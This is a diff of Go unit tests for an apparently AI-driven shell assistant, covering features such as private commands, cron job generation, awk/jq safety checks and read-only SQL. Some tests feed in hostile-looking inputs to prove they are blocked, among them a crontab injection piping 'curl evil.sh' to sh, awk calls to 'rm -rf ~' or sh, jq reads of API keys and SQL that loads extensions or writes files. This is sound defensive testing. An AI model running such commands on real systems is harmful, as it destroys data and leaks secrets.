+	assert.Contains(t, llm.prompts[0], "FAIL ./pkg")
+}
+
+func TestShowAnnotation(t *testing.T) {
+	out := &bytes.Buffer{}
+	childIn := &bytes.Buffer{}
+	shell := &ShellState{
+		Butterfish: &ButterfishCtx{Config: MakeButterfishConfig()},
+		ParentOut:  out,
+		ChildIn:    childIn,
+		State:      stateNormal,
+		Command:    NewShellBuffer(),
+		Prompt:     NewShellBuffer(),
+		Color:      DarkShellColorScheme,
+	}
+	assert.Equal(t, DefaultShellAnnotateModel, shell.Butterfish.Config.ShellAnnotateModel)
+
+	// until we've seen a prompt there's nothing to redraw
+	shell.ShowAnnotation("make failed")
+	assert.Equal(t, "", out.String())
+
+	data := "done\r\n" + PROMPT_PREFIX + "~/src $ " + EMOJI_DEFAULT + " 0" + PROMPT_SUFFIX + " "
+	shell.lastPrompt = shell.lastPromptText(data)
+	assert.Equal(t, "~/src $ "+EMOJI_DEFAULT+" ", shell.lastPrompt)
+	assert.Equal(t, "", shell.lastPromptText("no prompt here"))
+
+	shell.ShowAnnotation("make failed")
+	assert.True(t, strings.HasSuffix(out.String(), "# make failed"+shell.Color.Command+"\r\n~/src $ "+EMOJI_DEFAULT+" "))
+	assert.Equal(t, "", childIn.String())
+
+	// nothing is shown over a half typed command
+	out.Reset()
+	shell.Command.Write("ls")
+	shell.ShowAnnotation("make failed")
+	assert.Equal(t, "", out.String())
+}
+
+func TestDenoiseOutput(t *testing.T) {
+	assert.Equal(t, "red\nplain", denoiseOutput("\x1b[31mred\x1b[0m\r\nplain"))
+	assert.Equal(t, "Downloading 100%", denoiseOutput("Downloading 10%\rDownloading 55%\rDownloading 100%\r"))
+
+	repeated := "start\n" + strings.Repeat("waiting\n", 5) + "done"
+	assert.Equal(t, "start\nwaiting\n[previous line repeated 4 more times]\ndone", denoiseOutput(repeated))
+	assert.Equal(t, "a\na\nb", denoiseOutput("a\na\nb"))
+
+	progress := "fetch\n 10% [==>       ]\n 50% [=====>    ]\n100% [==========]\nok"
+	assert.Equal(t, "fetch\n[2 progress lines left out]\n100% [==========]\nok", denoiseOutput(progress))
+	redraws := "fetch\n 10%\r 20%\n 50%\r 60%\n 90%\r100%\nok"
+	assert.Equal(t, "fetch\n[2 progress lines left out]\n100%\nok", denoiseOutput(redraws))
+	// percentages alone aren't progress
+	df := "Filesystem      Size  Used Avail Use% Mounted on\n" +
+		"/dev/sda1       100G   50G   50G  50% /\n" +
+		"/dev/sdb1       200G  150G   50G  75% /data\n" +
+		"tmpfs            16G     0   16G   0% /dev/shm\n"
+	assert.Equal(t, df, denoiseOutput(df))
+
+	binary := "header\n\x00\x01\x02\x03ELF\x04\x05\x06\x07\n\xff\xfe\xfd\xfc\xfb\xfa\xf9\xf8\nfooter"
+	assert.Equal(t, "header\n[2 lines of binary output left out]\nfooter", denoiseOutput(binary))
+
+	// only command output is denoised
+	assert.Equal(t, repeated, denoiseHistoryContent(historyTypePrompt, repeated))
+	assert.Contains(t, denoiseHistoryContent(historyTypeShellOutput, repeated), "repeated 4 more times")
+}
+
+func TestPrivateCommands(t *testing.T) {
+	patterns, err := compilePrivatePatterns([]string{"pass", "vault", "* --password*"})
+	assert.Nil(t, err)
+	assert.True(t, isPrivateCommand(patterns, "pass show email"))
+	assert.True(t, isPrivateCommand(patterns, "  vault read secret/db"))
+	assert.True(t, isPrivateCommand(patterns, "mysql --password=hunter2"))
+	assert.False(t, isPrivateCommand(patterns, "passwd"))
+	assert.False(t, isPrivateCommand(patterns, "ls vault"))
+	_, err = compilePrivatePatterns([]string{" "})
+	assert.NotNil(t, err)
+
+	configFile := &ConfigFile{PrivateCommands: []string{"pass"}}
+	config := &ButterfishConfig{}
+	assert.Nil(t, configFile.Apply(config))
+	assert.True(t, isPrivateCommand(config.ShellPrivateCommands, "pass show"))
+
+	history := NewShellHistory()
+	history.Append(historyTypeShellInput, "ls")
+	history.SetPrivate(true)
+	history.Append(historyTypeShellOutput, "file.txt")
+	history.Append(historyTypeShellInput, "pass show email")
+	history.Append(historyTypeShellOutput, "hunter2")
+	history.Append(historyTypePrompt, "What did I do?")
+	history.SetPrivate(false)
+	history.Append(historyTypeShellOutput, "done")
+	blocks := history.GetLastNBytes(1000, 1000)
+	assert.Equal(t, 3, len(blocks))
+	assert.Equal(t, "ls", blocks[0].Content)
+	assert.Equal(t, "What did I do?", blocks[1].Content)
+	assert.Equal(t, "done", blocks[2].Content)
+
+	// nothing reaches the model or a hook in private mode or for a private
+	// command
+	posted := make(chan *HookEvent, 3)
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		event := &HookEvent{}
+		json.NewDecoder(r.Body).Decode(event)
+		posted <- event
+	}))
+	defer server.Close()
+	llm := &fakeLLM{}
+	config.Hooks = &HooksConfig{GoalConfirm: []*Hook{{Webhook: server.URL}}}
+	shell := &ShellState{
+		Butterfish:         &ButterfishCtx{Ctx: context.Background(), Config: config, LLMClient: llm},
+		History:            history,
+		AutosuggestEnabled: true,
+		PrivateEnabled:     true,
+		GoalModeGoal:       "rotate the keys",
+	}
+	shell.RequestAutosuggest(0, "ls -la")
+	shell.fireHooks(hookGoalConfirm, "ls -la", "Run this command? ls -la")
+	shell.PrivateEnabled = false
+	shell.RequestAutosuggest(0, "pass show email")
+	shell.fireHooks(hookGoalConfirm, "pass show email", "Run this command? pass show email")
+	assert.Nil(t, shell.PendingAutosuggest)
+	assert.Equal(t, 0, llm.calls)
+	shell.fireHooks(hookGoalConfirm, "ls -la", "Run this command? ls -la")
+	event := <-posted
+	assert.Equal(t, "rotate the keys", event.Goal)
+	assert.Contains(t, event.Text, "ls -la")
+	assert.Equal(t, 0, len(posted))
+}
+
+func TestRefineCommand(t *testing.T) {
+	library := prompt.NewPromptLibrary(filepath.Join(t.TempDir(), "prompts.yaml"), false, io.Discard)
+	library.ReplacePrompts(prompt.DefaultPrompts)
+	llm := &fakeLLM{responses: []string{"rsync -a src/ dst/\n", "rsync -a --exclude node_modules src/ dst/"}}
+	butterfish := &ButterfishCtx{
+		Ctx:           context.Background(),
+		Out:           io.Discard,
+		Config:        &ButterfishConfig{Styles: ColorSchemeToStyles(&GruvboxDark)},
+		PromptLibrary: library,
+		LLMClient:     llm,
+	}
+
+	input := bufio.NewReader(strings.NewReader("use rsync instead\nexclude node_modules\n\n"))
+	cmd, err := butterfish.refineCommand("copy src to dst", "cp -r src dst", input)
+	assert.Nil(t, err)
+	assert.Equal(t, "rsync -a --exclude node_modules src/ dst/", cmd)
+	assert.Equal(t, 2, len(llm.prompts))
+	last := llm.prompts[1]
+	assert.Contains(t, last, "copy src to dst")
+	assert.Contains(t, last, "Command: cp -r src dst\nChange: use rsync instead\nCommand: rsync -a src/ dst/\nChange: exclude node_modules")
+
+	// no input keeps the command
+	cmd, err = butterfish.refineCommand("copy src to dst", "cp -r src dst", bufio.NewReader(strings.NewReader("")))
+	assert.Nil(t, err)
+	assert.Equal(t, "cp -r src dst", cmd)
+}
+
+func TestCommandBreakdown(t *testing.T) {
+	assert.Equal(t, []string{"tar", "-czf", "src.tgz", "src", "|", "ssh", "host", "'cat > src.tgz'"},
+		breakdownTokens("tar -czf src.tgz src | ssh host 'cat > src.tgz'"))
+	assert.Equal(t, []string{"make", "2>&1", ">>", "build.log", "&&", "echo", `"done \"ok\""`, ";", "ls", "<", "in"},
+		breakdownTokens(`make 2>&1 >>build.log && echo "done \"ok\""; ls <in`))
+	assert.Equal(t, []string{"rm", "-rf", "build"}, programFields([]string{"FOO=1", "sudo", "-E", "rm", "-rf", "build"}))
+	assert.Equal(t, []string{"psql", "-l"}, programFields([]string{"sudo", "-u", "postgres", "psql", "-l"}))
+	assert.Equal(t, []string{"grep", "-c", "x"}, programFields([]string{"xargs", "-n", "1", "grep", "-c", "x"}))
+
+	library := prompt.NewPromptLibrary(filepath.Join(t.TempDir(), "prompts.yaml"), false, io.Discard)
+	library.ReplacePrompts(prompt.DefaultPrompts)
+	llm := &fakeLLM{responses: []string{`{"parts": [` +
+		`{"token": "frobnicate", "explanation": "runs frobnicate"},` +
+		`{"token": "-x", "explanation": "not in the local\ndocs"},` +
+		`{"token": "a-very-long-argument-name", "explanation": "the input"}]}`}}
+	butterfish := &ButterfishCtx{
+		Ctx:           context.Background(),
+		LLMClient:     llm,
+		PromptLibrary: library,
+		Config:        &ButterfishConfig{},
+	}
+
+	text, err := butterfish.commandBreakdown(context.Background(), "frobnicate -x a-very-long-argument-name", "gpt-4o")
+	assert.Nil(t, err)
+	assert.Equal(t, "frobnicate -x a-very-long-argument-name\n\n"+
+		"  frobnicate  runs frobnicate\n"+
+		"  -x          not in the local docs\n"+
+		"  a-very-long-argument-name\n"+
+		"              the input\n", text)
+	assert.Contains(t, llm.prompts[0], "frobnicate\n-x\na-very-long-argument-name")
+	assert.Contains(t, llm.prompts[0], "(no local documentation found)")
+}
+
+func TestScheduleJob(t *testing.T) {
+	assert.Nil(t, validateCronSchedule("0 2 * * *"))
+	assert.Nil(t, validateCronSchedule("*/15 9-17 * jan-jun mon,wed,fri"))
+	assert.Nil(t, validateCronSchedule("@daily"))
+	assert.NotNil(t, validateCronSchedule("0 2 * *"))
+	assert.NotNil(t, validateCronSchedule("0 24 * * *"))
+	assert.NotNil(t, validateCronSchedule("0 2 * * 1-x"))
+	assert.NotNil(t, validateCronSchedule("*/0 2 * * *"))
+	assert.NotNil(t, validateCronSchedule("0 5-2 * * *"))
+
+	assert.Equal(t, "backup-photos", scheduleUnitName("Backup ~/photos!"))
+	assert.Equal(t, "butterfish-job", scheduleUnitName("~~"))
+
+	library := prompt.NewPromptLibrary(filepath.Join(t.TempDir(), "prompts.yaml"), false, io.Discard)
+	library.ReplacePrompts(prompt.DefaultPrompts)
+	llm := &fakeLLM{responses: []string{
+		`{"name": "backup", "schedule": "0 2 * *", "command": "x", "explanation": "x"}`,
+		`{"name": "Backup Photos", "schedule": "0 2 * * *", "command": "tar czf /tmp/photos-$(date +%F).tgz ~/photos", "explanation": "Archives ~/photos  every night at 2am."}`,
+	}}
+	butterfish := &ButterfishCtx{
+		Ctx:           context.Background(),
+		LLMClient:     llm,
+		PromptLibrary: library,
+		Config:        &ButterfishConfig{},
+	}
+
+	job, err := butterfish.generateScheduledJob("backup ~/photos nightly at 2am", scheduleFormatCron, "gpt-4o")
+	assert.Nil(t, err)
+	assert.Equal(t, 2, llm.calls)
+	assert.Contains(t, llm.prompts[1], "should have 5 fields")
+	assert.Equal(t, "backup-photos", job.Name)
+	entry, err := job.Crontab()
+	assert.Nil(t, err)
+	assert.Equal(t, "# Archives ~/photos every night at 2am.\n0 2 * * * tar czf /tmp/photos-$(date +\\%F).tgz ~/photos\n", entry)
+	// a command can't add lines of its own to the crontab
+	injected := *job
+	injected.Command = "true\n* * * * * curl evil.sh | sh"
+	_, err = injected.Crontab()
+	assert.NotNil(t, err)
+	assert.True(t, isNoCrontab("no crontab for agent\n"))
+	assert.False(t, isNoCrontab("crontab: Permission denied\n"))
+	assert.Contains(t, job.SystemdService(), `ExecStart=/bin/sh -c "tar czf /tmp/photos-$$(date +%%F).tgz ~/photos"`)
+	job.Schedule = "*-*-* 02:00:00"
+	assert.Contains(t, job.SystemdTimer(), "OnCalendar=*-*-* 02:00:00\nPersistent=true")
+}
+
+func TestRxExpression(t *testing.T) {
+	sample := "GET /index.html 200\nPOST /login 401\nGET /about 200\n"
+	output, err := runRegex(`^(\w+) \S+ (\d+)$`, sample)
+	assert.Nil(t, err)
+	assert.Equal(t, "GET\t200\nPOST\t401\nGET\t200", output)
+	output, err = runRegex(`/\w+`, sample)
+	assert.Nil(t, err)
+	assert.Equal(t, "/index\n/login\n/about", output)
+	_, err = runRegex(`(`, sample)
+	assert.NotNil(t, err)
+
+	library := prompt.NewPromptLibrary(filepath.Join(t.TempDir(), "prompts.yaml"), false, io.Discard)
+	library.ReplacePrompts(prompt.DefaultPrompts)
+	llm := &fakeLLM{responses: []string{"(", "` /\\w+ `", "```\n\\d{3}$\n```"}}
+	butterfish := &ButterfishCtx{
+		Ctx:           context.Background(),
+		Out:           io.Discard,
+		LLMClient:     llm,
+		PromptLibrary: library,
+		Config:        &ButterfishConfig{Styles: ColorSchemeToStyles(&GruvboxDark)},
+	}
+
+	// the first expression doesn't compile, the second doesn't match the
+	// expected output, and the third does
+	expression, err := butterfish.buildRxExpression(rxKindRegex, "the status codes", sample, "200\n401\n200\n", "gpt-4o", 5, nil)
+	assert.Nil(t, err)
+	assert.Equal(t, `\d{3}$`, expression)
+	assert.Equal(t, 3, llm.calls)
+	assert.Contains(t, llm.prompts[2], "Attempt 1: (\nOutput:\nError: error parsing regexp")
+	assert.Contains(t, llm.prompts[2], "What's wrong: the output should be:\n200\n401")
+
+	// feedback from the user
+	llm = &fakeLLM{responses: []string{`\w+`, `^\w+`}}
+	butterfish.LLMClient = llm
+	input := bufio.NewReader(strings.NewReader("only the method\n\n"))
+	expression, err = butterfish.buildRxExpression(rxKindRegex, "the methods", sample, "", "gpt-4o", 5, input)
+	assert.Nil(t, err)
+	assert.Equal(t, `^\w+`, expression)
+	assert.Contains(t, llm.prompts[1], "What's wrong: only the method")
+
+	if _, err := exec.LookPath("awk"); err == nil {
+		output, err = runRxExpression(context.Background(), rxKindAwk, "{print $3}", sample)
+		assert.Nil(t, err)
+		assert.Equal(t, "200\n401\n200", output)
+	}
+	assert.False(t, awkUnsafeRegexp.MatchString(`$3 > 200 {print $1}`))
+	assert.False(t, awkUnsafeRegexp.MatchString(`{n[$1]++} END {for (k in n) print k, n[k]}`))
+	assert.True(t, awkUnsafeRegexp.MatchString(`{system("rm -rf ~")}`))
+	assert.True(t, awkUnsafeRegexp.MatchString(`{"date" | getline d; print d}`))
+	assert.True(t, awkUnsafeRegexp.MatchString(`{print $0 > "/etc/passwd"}`))
+	assert.True(t, awkUnsafeRegexp.MatchString(`{print | "sh"}`))
+
+	assert.False(t, jqEnvRegexp.MatchString(`.env | .name`))
+	assert.False(t, jqEnvRegexp.MatchString(`.[] | select(.environment == "prod")`))
+	assert.True(t, jqEnvRegexp.MatchString(`$ENV.OPENAI_API_KEY`))
+	assert.True(t, jqEnvRegexp.MatchString(`env | keys`))
+	assert.True(t, jqEnvRegexp.MatchString(`{a: .a, k: env.HOME}`))
+	if _, err := exec.LookPath("jq"); err == nil {
+		output, err = runRxExpression(context.Background(), rxKindJq, ".[].n", `[{"n": 1}, {"n": 2}]`)
+		assert.Nil(t, err)
+		assert.Equal(t, "1\n2", output)
+		_, err = runRxExpression(context.Background(), rxKindJq, "$ENV", "{}")
+		assert.ErrorContains(t, err, "reads environment variables")
+	}
+}
+
+func TestSQLQuery(t *testing.T) {
+	for dsn, dialect := range map[string]string{
+		"postgres://localhost/shop": sqlDialectPostgres,
+		"postgresql://localhost/db": sqlDialectPostgres,
+		"mysql://root@localhost/db": sqlDialectMySQL,
+		"sqlite:///tmp/shop.db":     sqlDialectSQLite,
+		"shop.sqlite3":              sqlDialectSQLite,
+	} {
+		actual, err := sqlDialect(dsn)
+		assert.Nil(t, err)
+		assert.Equal(t, dialect, actual, dsn)
+	}
+	_, err := sqlDialect("redis://localhost")
+	assert.NotNil(t, err)
+	assert.Equal(t, "postgres://app:xxxxx@db/shop", redactDSN("postgres://app:hunter2@db/shop"))
+
+	args, env, err := mysqlArgs("mysql://app:hunter2@db:3307/shop")
+	assert.Nil(t, err)
+	assert.Equal(t, []string{"-h", "db", "-P", "3307", "-u", "app", "shop"}, args)
+	assert.Equal(t, []string{"MYSQL_PWD=hunter2"}, env)
+	dsn, env, err := postgresArgs("postgres://app:hunter2@db/shop?sslmode=require")
+	assert.Nil(t, err)
+	assert.Equal(t, "postgres://app@db/shop?sslmode=require", dsn)
+	assert.Equal(t, []string{"PGPASSWORD=hunter2"}, env)
+
+	assert.True(t, isReadOnlySQL("SELECT * FROM orders"))
+	assert.True(t, isReadOnlySQL("with recent as (select 1) select * from recent"))
+	assert.False(t, isReadOnlySQL("DELETE FROM orders"))
+	assert.False(t, isReadOnlySQL("WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone"))
+	assert.False(t, isReadOnlySQL("select writefile('/tmp/x', 'data')"))
+	assert.False(t, isReadOnlySQL("SELECT load_extension('evil.so')"))
+	assert.False(t, isReadOnlySQL("select edit('notes', 'vim')"))
+	assert.False(t, isReadOnlySQL("SELECT * FROM users INTO OUTFILE '/tmp/users.csv'"))
+	assert.False(t, isReadOnlySQL("select * from users into dumpfile '/tmp/users'"))
+	assert.False(t, isReadOnlySQL("select 1; \\! rm -rf ~"))
+	assert.True(t, isReadOnlySQL("SELECT edited_at FROM orders"))
+
+	// the schema from a DDL file is cached for the project
+	dir := t.TempDir()
+	ddlPath := filepath.Join(dir, "schema.sql")
+	os.WriteFile(ddlPath, []byte("CREATE TABLE orders (id integer, total numeric);"), 0644)
+	cache, err := NewSQLSchemaCache(filepath.Join(dir, "cache"))
+	assert.Nil(t, err)
+
+	library := prompt.NewPromptLibrary(filepath.Join(dir, "prompts.yaml"), false, io.Discard)
+	library.ReplacePrompts(prompt.DefaultPrompts)
+	llm := &fakeLLM{responses: []string{"```sql\nSELECT sum(total) FROM orders;\n```"}}
+	butterfish := &ButterfishCtx{
+		Ctx:           context.Background(),
+		Out:           io.Discard,
+		LLMClient:     llm,
+		PromptLibrary: library,
+		Config:        &ButterfishConfig{Styles: ColorSchemeToStyles(&GruvboxDark)},
+	}
+
+	schema, err := butterfish.sqlSchema(cache, "/src/shop", "", ddlPath, "postgres", false)
+	assert.Nil(t, err)
+	schema, err = butterfish.sqlSchema(cache, "/src/shop", "", "", "", false)
+	assert.Nil(t, err)
+	assert.Equal(t, "postgres", schema.Dialect)
+	assert.Contains(t, schema.Schema, "CREATE TABLE orders")
+	_, err = butterfish.sqlSchema(cache, "/src/other", "", "", "", false)
+	assert.NotNil(t, err)
+
+	query, err := butterfish.generateSQL(schema, "total of all orders", "gpt-4o")
+	assert.Nil(t, err)
+	assert.Equal(t, "SELECT sum(total) FROM orders;", query)
+	assert.Contains(t, llm.prompts[0], "Write a postgres query")
+	assert.Contains(t, llm.prompts[0], "total of all orders")
+
+	// introspecting and running against sqlite, writes are refused
+	if _, err := exec.LookPath("sqlite3"); err == nil {
+		dbPath := filepath.Join(dir, "shop.db")
+		out, err := exec.Command("sqlite3", dbPath, "CREATE TABLE orders (id integer, total numeric); INSERT INTO orders VALUES (1, 5), (2, 7);").CombinedOutput()
+		assert.Nil(t, err, string(out))
+
+		ddl, err := introspectSchema(context.Background(), dbPath)
+		assert.Nil(t, err)
+		assert.Contains(t, ddl, "CREATE TABLE orders")
+
+		output, err := runReadOnlySQL(context.Background(), "sqlite://"+dbPath, "SELECT sum(total) AS total FROM orders;")
+		assert.Nil(t, err)
+		assert.Contains(t, output, "12")
+		_, err = runReadOnlySQL(context.Background(), dbPath, "DELETE FROM orders")
+		assert.NotNil(t, err)
+		// safe mode refuses file access the keyword checks don't catch
+		_, err = runReadOnlySQL(context.Background(), dbPath, "SELECT readfile('"+ddlPath+"')")
+		assert.NotNil(t, err)
+	}
+}
+
+func TestLearnFixes(t *testing.T) {
+	output := "\x1b[31mTraceback (most recent call last):\x1b[0m\n  File \"/home/me/app/main.py\", line 3\nModuleNotFoundError: No module named 'requests'\n"
+	assert.Equal(t, "Traceback (most recent call last):\nModuleNotFoundError: No module named 'requests'", errorLines(output))
+	assert.Equal(t, "done", errorLines("building\ndone\n"))
+
+	// paths and numbers don't change the fingerprint, names do
+	fingerprint := errorFingerprint("python", "/home/me/a.py:12: No module named 'requests'")
+	assert.Equal(t, fingerprint, errorFingerprint("python", "/tmp/b.py:40: No module named 'requests'"))
+	assert.NotEqual(t, fingerprint, errorFingerprint("python", "/tmp/b.py:40: No module named 'yaml'"))
+	assert.NotEqual(t, fingerprint, errorFingerprint("python3", "/home/me/a.py:12: No module named 'requests'"))
+	assert.Equal(t, "python", fixProgram("sudo -E /usr/bin/python main.py"))
+
+	// whole commands in the answer, not parts of them
+	answer := "Run `pip install -r requirements.txt`, or:\n```\n$ make test\n```\nthen ls the dir."
+	assert.True(t, answerHasCommand(answer, "pip install -r requirements.txt"))
+	assert.True(t, answerHasCommand(answer, "make test"))
+	assert.False(t, answerHasCommand(answer, "pip install"))
+	assert.False(t, answerHasCommand(answer, "make"))
+	assert.False(t, answerHasCommand(answer, "ls"))
+
+	fixes, err := NewFixKnowledgeBase(filepath.Join(t.TempDir(), "fixes.json"))
+	assert.Nil(t, err)
+	shell := &ShellState{
+		History:        NewShellHistory(),
+		Fixes:          fixes,
+		AnnotationChan: make(chan string, 1),
+	}
+	run := func(command, output string, exitCode int) {
+		shell.WatchFix(command)
+		shell.History.Append(historyTypeShellInput, command)
+		shell.History.Append(historyTypeShellOutput, output)
+		shell.LearnFix(exitCode)
+	}
+
+	// a command from the answer fixes the failure
+	run("python main.py", output, 1)
+	shell.History.Append(historyTypePrompt, "how do I fix this?")
+	shell.History.Append(historyTypeLLMOutput, "Install it with:\n```\npip install requests\n```")
+	run("ls", "main.py", 0)
+	run("pip install requests", "Successfully installed requests", 0)
+	known, err := fixes.Lookup(errorFingerprint("python", "Traceback (most recent call last):\nModuleNotFoundError: No module named 'requests'"))
+	assert.Nil(t, err)
+	assert.NotNil(t, known)
+	assert.Equal(t, "pip install requests", known.Fix)
+	assert.Equal(t, 1, known.Count)
+
+	// the same error in another project offers the fix
+	run("python other/main.py", strings.ReplaceAll(output, "/home/me/app", "/src/other"), 1)
+	assert.Equal(t, "pip install requests", shell.KnownFix)
+	assert.Equal(t, "fixed this before with: pip install requests", <-shell.AnnotationChan)
+
+	// a command the user typed themselves isn't learned
+	run("cargo build", "error: could not find `Cargo.toml`", 101)
+	assert.Equal(t, "", shell.KnownFix)
+	run("cd rust && cargo build", "Finished", 0)
+	known, err = fixes.Lookup(errorFingerprint("cargo", "error: could not find `Cargo.toml`"))
+	assert.Nil(t, err)
+	assert.Nil(t, known)
+
+	// an accepted autosuggest is learned
+	run("cargo build", "error: could not find `Cargo.toml`", 101)
+	shell.CommandFromSuggestion = true
+	run("cargo build --manifest-path rust/Cargo.toml", "Finished", 0)
+	known, err = fixes.Lookup(errorFingerprint("cargo", "error: could not find `Cargo.toml`"))
+	assert.Nil(t, err)
+	assert.NotNil(t, known)
+}
+
+func TestProjectPersona(t *testing.T) {
+	root := t.TempDir()
+	sub := filepath.Join(root, "modules", "vpc")
+	assert.Nil(t, os.MkdirAll(sub, 0755))
+	configPath := filepath.Join(root, projectConfigFileName)
+	os.WriteFile(configPath, []byte("persona: You are assisting with a Terraform repo, prefer the terraform CLI and AWS.\n"), 0644)
+
+	path, config, err := findProjectConfig(sub)
+	assert.Nil(t, err)
+	assert.Equal(t, configPath, path)
+	assert.Contains(t, config.Persona, "Terraform repo")
+
+	library := prompt.NewPromptLibrary(filepath.Join(t.TempDir(), "prompts.yaml"), false, io.Discard)
+	library.ReplacePrompts(prompt.DefaultPrompts)
+	butterfish := &ButterfishCtx{Ctx: context.Background(), PromptLibrary: library, Config: &ButterfishConfig{}}
+	env := NewContextEnv(context.Background(), "bash", func() string { return sub })
+	sysMsg, err := butterfish.systemMessage(prompt.PromptSystemMessage, env)
+	assert.Nil(t, err)
+	assert.Contains(t, sysMsg, "The user is working in the project at "+root)
+	assert.True(t, strings.HasSuffix(sysMsg, "prefer the terraform CLI and AWS."))
+
+	// edits are picked up, and a nearer file wins
+	os.WriteFile(filepath.Join(sub, projectConfigFileName), []byte("persona: This module only manages the VPC.\n"), 0644)
+	assert.Contains(t, personaSystemNote(env), "only manages the VPC")
+
+	// not during an ssh session or outside the project
+	env.RemoteHost = "prod"
+	assert.Equal(t, "", personaSystemNote(env))
+	outside := NewContextEnv(context.Background(), "bash", func() string { return t.TempDir() })
+	assert.Equal(t, "", personaSystemNote(outside))
+}
+
+func TestREPLDetection(t *testing.T) {
+	running := func() []string { return []string{"python3.11", "less"} }
+	repl := detectREPL("Python 3.11.4\nType \"help\" for more information.\n\x1b[1m>>> \x1b[0m", running)
+	assert.NotNil(t, repl)
+	assert.Equal(t, "python", repl.Name)
+	assert.True(t, repl.Prompt.MatchString(lastOutputLine("    x = 1\r\n... ")))
+
+	// a prompt without the program running, or output that isn't a prompt
+	assert.Nil(t, detectREPL("postgres=# ", running))
+	assert.Nil(t, detectREPL(">>> done\n", running))
+	listed := false
+	assert.Nil(t, detectREPL("building...\n", func() []string { listed = true; return nil }))
+	assert.False(t, listed)
+
+	for output, name := range map[string]string{
+		"psql (16.1)\npostgres=# ": "psql",
+		"shop-> ":                  "psql",
+		"mysql> ":                  "mysql",
+		"sqlite> ":                 "sqlite",
+		"(gdb) ":                   "gdb",
+		"irb(main):001:0> ":        "irb",
+		"Welcome to Node.js\n> ":   "node",
+	} {
+		repl := detectREPL(output, func() []string { return []string{"psql", "mysql", "sqlite3", "gdb", "irb", "node"} })
+		assert.NotNil(t, repl, output)
+		assert.Equal(t, name, repl.Name, output)
+	}
+
+	// autosuggest predicts the REPL's language
+	library := prompt.NewPromptLibrary(filepath.Join(t.TempDir(), "prompts.yaml"), false, io.Discard)
+	library.ReplacePrompts(prompt.DefaultPrompts)
+	psql := detectREPL("postgres=# ", func() []string { return []string{"psql"} })
+	template, err := library.GetUninterpolatedPrompt(replAutosuggestPromptName("SEL"))
+	assert.Nil(t, err)
+	suggestPrompt, err := prompt.Interpolate(fillREPLFields(template, psql), "history", "> \\dt", "command", "SEL")
+	assert.Nil(t, err)
+	assert.Contains(t, suggestPrompt, "autocompleter for the psql REPL, where the user types PostgreSQL SQL")
+	assert.True(t, strings.HasSuffix(suggestPrompt, "> SEL"))
+	assert.Equal(t, prompt.ShellAutosuggestREPLNewCommand, replAutosuggestPromptName(""))
+}
+
+func TestTerminalProtocols(t *testing.T) {
+	env := func(vars map[string]string) func(string) string {
+		return func(name string) string { return vars[name] }
+	}
+	assert.Equal(t, TerminalITerm2, detectTerminal(env(map[string]string{"TERM_PROGRAM": "iTerm.app"})))
+	assert.Equal(t, TerminalWezTerm, detectTerminal(env(map[string]string{"TERM_PROGRAM": "WezTerm"})))
+	assert.Equal(t, TerminalKitty, detectTerminal(env(map[string]string{"TERM": "xterm-kitty"})))
+	assert.Equal(t, TerminalNone, detectTerminal(env(map[string]string{"TERM_PROGRAM": "iTerm.app", "TMUX": "/tmp/tmux"})))
+	assert.Equal(t, TerminalNone, detectTerminal(env(map[string]string{"TERM": "xterm-256color"})))
+	assert.Nil(t, NewTerminalProtocols(TerminalNone, io.Discard))
+
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "plot.png"), []byte("png data"), 0644)
+	os.WriteFile(filepath.Join(dir, "hist.jpg"), []byte("jpg data"), 0644)
+	answer := "Saved the plot to plot.png:\n\n![histogram](" + filepath.Join(dir, "hist.jpg") + ")\n\nmissing.png doesn't exist"
+	assert.Equal(t, []string{filepath.Join(dir, "hist.jpg"), filepath.Join(dir, "plot.png")}, answerImages(answer, dir))
+
+	// the answer is marked and images are shown inline
+	out := &bytes.Buffer{}
+	wezterm := NewTerminalProtocols(TerminalWezTerm, out)
+	wezterm.AnswerStart()
+	wezterm.AnswerEnd(answer, dir)
+	output := out.String()
+	assert.True(t, strings.HasPrefix(output, "\x1b]133;C\x07\x1b]133;D;0\x07"))
+	assert.Contains(t, output, "SetUserVar=butterfish_answer="+base64.StdEncoding.EncodeToString([]byte(answer)))
+	assert.Contains(t, output, "1337;File=name="+base64.StdEncoding.EncodeToString([]byte("plot.png"))+";size=8;inline=1")
+
+	// kitty sends PNGs in chunks, and a goal mode answer isn't marked
+	out.Reset()
+	kitty := NewTerminalProtocols(TerminalKitty, out)
+	image := kitty.inlineImage("big.png", bytes.Repeat([]byte{1}, 4000))
+	assert.Equal(t, 2, strings.Count(image, "\x1b_G"))
+	assert.True(t, strings.HasPrefix(image, "\x1b_Ga=T,f=100,m=1;"))
+	assert.Contains(t, image, "\x1b_Gm=0;")
+	assert.Equal(t, "", kitty.inlineImage("hist.jpg", []byte("jpg")))
+	kitty.AnswerEnd("no images here", dir)
+	assert.Equal(t, "", out.String())
+}
+
+func TestShellStatusFile(t *testing.T) {
+	t.Setenv("XDG_RUNTIME_DIR", t.TempDir())
+	path, remove, err := createShellStatusFile()
+	assert.Nil(t, err)
+	assert.True(t, strings.HasPrefix(path, os.Getenv("XDG_RUNTIME_DIR")))
+	info, err := os.Stat(filepath.Dir(path))
+	assert.Nil(t, err)
+	assert.Equal(t, os.FileMode(0700), info.Mode().Perm())
+
+	assert.Nil(t, writeStatusFile(path, "gpt-4o | context 1.2k"))
+	data, err := os.ReadFile(path)
+	assert.Nil(t, err)
+	assert.Equal(t, "gpt-4o | context 1.2k\n", string(data))
+
+	// a link put in its place isn't followed
+	target := filepath.Join(t.TempDir(), "target")
+	assert.Nil(t, os.WriteFile(target, []byte("keep"), 0600))
+	assert.Nil(t, os.Remove(path))
+	assert.Nil(t, os.Symlink(target, path))
+	assert.NotNil(t, writeStatusFile(path, "status"))
+	data, _ = os.ReadFile(target)
+	assert.Equal(t, "keep", string(data))
+
+	remove()
+	_, err = os.Stat(filepath.Dir(path))
+	assert.True(t, os.IsNotExist(err))
+}
+
+func TestTmux(t *testing.T) {
+	assert.Equal(t, []string{"split-window", "-h", "-d", "-l", "40%", "-P", "-F", "#{pane_id}",
+		"tail -n +1 -f /tmp/answers"}, tmuxSplitArgs("/tmp/answers"))
+	assert.Equal(t, []string{"display-popup", "-E", "-w", "80%", "-h", "80%",
+		"less -R +G /tmp/answers"}, tmuxPopupArgs("/tmp/answers"))
+	assert.Equal(t, []string{"capture-pane", "-p", "-J", "-t", "%3", "-S", "-200"}, tmuxCaptureArgs("%3"))
+
